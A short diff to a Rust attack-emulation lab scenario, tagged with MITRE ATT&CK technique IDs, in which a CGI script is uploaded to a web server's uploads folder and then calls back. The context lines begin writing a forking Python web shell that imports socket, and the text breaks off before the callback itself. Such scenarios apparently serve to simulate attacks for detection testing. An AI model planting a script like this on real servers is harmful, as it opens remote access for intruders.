@@ -22,7 +22,7 @@ pub fn run(lab: &mut Lab) -> Result<()> {
     let file = format!("/var/www/html/uploads/{name}.cgi");
     let step = attack.step("a script is uploaded", &["T1190", "T1105"]);
     step.remote(&host, &attacker);
-    step.file(&host, &file);
+    step.brought(&host, &file);
     let next = attack.step("it is called, and calls back", &["T1505.003", "T1059.006", "T1071.001"]);
     let script = format!(
         "#!/usr/bin/python3\nimport os,socket\nopen('{}')\nprint('Content-type: text/plain\\n',flush=True)\nif os.fork()==0:\n os.setsid()\n \
